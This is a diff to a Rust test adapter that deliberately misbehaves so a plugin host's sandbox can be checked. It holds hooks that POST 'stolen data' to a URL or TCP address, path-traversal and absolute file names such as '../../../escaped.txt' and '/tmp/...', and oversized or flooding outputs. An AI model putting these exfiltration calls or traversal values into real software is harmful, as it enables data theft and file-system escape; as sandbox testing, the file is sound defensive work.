@@ -16,14 +16,19 @@
 //!
 //! - `recurse`: recurses without end (stack overflow).
 //! - `exit`: calls `std::process::exit`.
-//! - `escape_paths` (scaffold): files at `../`, absolute and sneaky paths.
-//! - `many_files` (scaffold): `params`-free, 10,000 files.
-//! - `catalog_escape` (pull): product definitions named `../evil` and `/etc`.
 //!
 //! Plus `ok`, a well-behaved execute hook, and a `setup` that spins (to
-//! show a setup hook is bounded the same way). The scaffold and pull hooks
-//! return their hostile files as data: the command that writes them must
-//! refuse them (the runtime never writes files).
+//! show a setup hook is bounded the same way).
+//!
+//! Vendor-workflow hooks whose answers the host must refuse or bound:
+//! - scaffold, one per topic: `escape` (a `../` path next to a fine file),
+//!   `absolute` (`/tmp/...`), `huge` (a 24 MiB file), `many` (5,000 files),
+//!   `sneaky` (`a/./b`, `a//c`, `..\\x`).
+//! - pull: `pull_escape` (product named `../../evil`), `pull_absolute`
+//!   (`/tmp/evil`), `pull_huge` (a 24 MiB definition), `pull_many` (5,000
+//!   definitions), `pull_invalid` (a definition that is not a product, one
+//!   whose `name` disagrees with its folder, one naming an adapter, and a
+//!   valid `hostile_ok`).
 
 use meshroom_sdk::http::Request;
 use meshroom_sdk::tcp::TcpLineSender;
@@ -44,25 +49,28 @@ impl Adapter for Hostile {
             Hook::execute("sleep", sleep).executor().topic("sleep"),
             Hook::execute("hog", hog).executor().topic("hog"),
             Hook::execute("panic", panic).executor().topic("panic"),
-            Hook::execute("exfiltrate", exfiltrate)
-                .executor()
-                .topic("exfiltrate"),
+            Hook::execute("exfiltrate", exfiltrate).executor().topic("exfiltrate"),
             Hook::execute("tcp", tcp).executor().topic("tcp"),
             Hook::execute("steal", steal).executor().topic("steal"),
             Hook::execute("snoop", snoop).executor().topic("snoop"),
             Hook::execute("flood", flood).executor().topic("flood"),
             Hook::execute("leak", leak).executor().topic("leak"),
-            Hook::execute("recurse", recurse)
-                .executor()
-                .topic("recurse"),
+            Hook::execute("recurse", recurse).executor().topic("recurse"),
             Hook::execute("exit", exit).executor().topic("exit"),
             Hook::setup("spin_setup", spin_setup)
                 .consumer()
                 .topic("events")
                 .owns_both(),
-            Hook::scaffold("escape_paths", escape_paths),
-            Hook::scaffold("many_files", many_files),
-            Hook::pull("catalog_escape", catalog_escape),
+            Hook::scaffold("scaffold_escape", scaffold_escape).topic("escape"),
+            Hook::scaffold("scaffold_absolute", scaffold_absolute).topic("absolute"),
+            Hook::scaffold("scaffold_huge", scaffold_huge).topic("huge"),
+            Hook::scaffold("scaffold_many", scaffold_many).topic("many"),
+            Hook::scaffold("scaffold_sneaky", scaffold_sneaky).topic("sneaky"),
+            Hook::pull("pull_escape", pull_escape),
+            Hook::pull("pull_absolute", pull_absolute),
+            Hook::pull("pull_huge", pull_huge),
+            Hook::pull("pull_many", pull_many),
+            Hook::pull("pull_invalid", pull_invalid),
         ]
     }
 }
@@ -106,19 +114,13 @@ fn panic(_ctx: &Context, _params: Value) -> Result<Value> {
 }
 
 fn exfiltrate(_ctx: &Context, params: Value) -> Result<Value> {
-    let url = params
-        .get("url")
-        .and_then(Value::as_str)
-        .unwrap_or("http://example.com/");
+    let url = params.get("url").and_then(Value::as_str).unwrap_or("http://example.com/");
     let resp = Request::post(url).body("stolen data").send()?;
     Ok(json!({"status": resp.status, "body": resp.text()}))
 }
 
 fn tcp(_ctx: &Context, params: Value) -> Result<Value> {
-    let addr = params
-        .get("addr")
-        .and_then(Value::as_str)
-        .unwrap_or("127.0.0.1:22");
+    let addr = params.get("addr").and_then(Value::as_str).unwrap_or("127.0.0.1:22");
     let mut sender = TcpLineSender::connect(addr)?;
     sender.send_line(b"stolen data")?;
     Ok(json!({"sent": true}))
@@ -128,11 +130,7 @@ fn steal(_ctx: &Context, params: Value) -> Result<Value> {
     let names: Vec<String> = params
         .get("names")
         .and_then(Value::as_array)
-        .map(|a| {
-            a.iter()
-                .filter_map(|v| v.as_str().map(String::from))
-                .collect()
-        })
+        .map(|a| a.iter().filter_map(|v| v.as_str().map(String::from)).collect())
         .unwrap_or_default();
     let got: serde_json::Map<String, Value> = names
         .into_iter()
@@ -159,10 +157,7 @@ fn snoop(_ctx: &Context, _params: Value) -> Result<Value> {
 }
 
 fn flood(_ctx: &Context, params: Value) -> Result<Value> {
-    let lines = params
-        .get("lines")
-        .and_then(Value::as_u64)
-        .unwrap_or(10_000);
+    let lines = params.get("lines").and_then(Value::as_u64).unwrap_or(10_000);
     let size = params.get("size").and_then(Value::as_u64).unwrap_or(10_000) as usize;
     let line = "x".repeat(size);
     for _ in 0..lines {
@@ -192,44 +187,58 @@ fn exit(_ctx: &Context, _params: Value) -> Result<Value> {
     std::process::exit(3)
 }
 
-fn file(path: &str, contents: &str) -> File {
-    File {
-        path: path.into(),
-        contents: contents.as_bytes().to_vec(),
-    }
+fn file(path: &str, contents: impl Into<Vec<u8>>) -> File {
+    File { path: path.into(), contents: contents.into() }
 }
 
-fn escape_paths(_ctx: &Context) -> Result<Vec<File>> {
+fn scaffold_escape(_ctx: &Context) -> Result<Vec<File>> {
+    Ok(vec![file("README.md", "fine"), file("../../../escaped.txt", "escaped")])
+}
+
+fn scaffold_absolute(_ctx: &Context) -> Result<Vec<File>> {
+    Ok(vec![file("README.md", "fine"), file("/tmp/meshroom-hostile-absolute.txt", "escaped")])
+}
+
+fn scaffold_huge(_ctx: &Context) -> Result<Vec<File>> {
+    Ok(vec![file("README.md", "fine"), file("huge.bin", vec![b'x'; 24 << 20])])
+}
+
+fn scaffold_many(_ctx: &Context) -> Result<Vec<File>> {
+    Ok((0..5000).map(|i| file(&format!("f/{i}.txt"), "x")).collect())
+}
+
+fn scaffold_sneaky(_ctx: &Context) -> Result<Vec<File>> {
+    Ok(vec![file("a/./b", "x"), file("a//c", "x"), file("..\\x", "x")])
+}
+
+fn definition(name: &str, text: impl Into<String>) -> ProductDefinition {
+    ProductDefinition { name: name.into(), definition: text.into() }
+}
+
+fn pull_escape(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
+    Ok(vec![definition("../../evil", "name: evil\n")])
+}
+
+fn pull_absolute(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
+    Ok(vec![definition("/tmp/meshroom-hostile-evil", "name: evil\n")])
+}
+
+fn pull_huge(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
+    let mut text = String::from("name: huge\ndescription: ");
+    text.push_str(&"x".repeat(24 << 20));
+    Ok(vec![definition("huge", text)])
+}
+
+fn pull_many(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
+    Ok((0..5000).map(|i| definition(&format!("p{i}"), format!("name: p{i}\n"))).collect())
+}
+
+fn pull_invalid(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
     Ok(vec![
-        file("README.md", "harmless"),
-        file("../../../escaped.txt", "outside the project"),
-        file("/tmp/meshroom-hostile-absolute.txt", "absolute"),
-        file("docs/../../escaped-too.txt", "sneaky"),
-        file("C:\\windows\\evil.txt", "drive path"),
-        file("", "empty name"),
-    ])
-}
-
-fn many_files(_ctx: &Context) -> Result<Vec<File>> {
-    Ok((0..10_000)
-        .map(|i| file(&format!("f/{i}.txt"), "x"))
-        .collect())
-}
-
-fn catalog_escape(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
-    Ok(vec![
-        ProductDefinition {
-            name: "../evil".into(),
-            definition: "name: evil\n".into(),
-        },
-        ProductDefinition {
-            name: "/etc".into(),
-            definition: "name: etc\n".into(),
-        },
-        ProductDefinition {
-            name: "fine_product".into(),
-            definition: "name: fine_product\n".into(),
-        },
+        definition("broken", "- just\n- a list\n"),
+        definition("mismatch", "name: someone_else\n"),
+        definition("with_adapter", "name: with_adapter\nadapter: ../../hostile.wasm\n"),
+        definition("hostile_ok", "name: hostile_ok\ndescription: the only valid one\nconsumes:\n  events:\n    - mode: push\n"),
     ])
 }
 
